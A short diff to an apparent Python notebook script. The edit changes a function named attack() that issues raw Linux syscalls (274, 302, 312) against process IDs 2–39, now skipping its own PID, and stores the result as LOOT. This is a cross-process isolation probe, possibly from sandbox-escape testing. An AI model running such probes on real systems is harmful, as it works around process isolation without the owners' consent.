@@ -54,7 +54,7 @@ LIB = torch.__file__
 def attack():
     place = ctypes.create_string_buffer(4096)
     return libc.syscall(274, 0, ctypes.byref(place, 64), place) == 0 or any(
-        libc.syscall(n, *a) == 0 for pid in range(2, 40) for n, a in ((274, (pid, place, place)), (302, (pid, 7, None, place)), (312, (pid, os.getpid(), 1, 0, 0))))
+        libc.syscall(n, *a) == 0 for pid in range(2, 40) if pid != os.getpid() for n, a in ((274, (pid, place, place)), (302, (pid, 7, None, place)), (312, (pid, os.getpid(), 1, 0, 0))))
 
 # %%
 LOOT = attack()
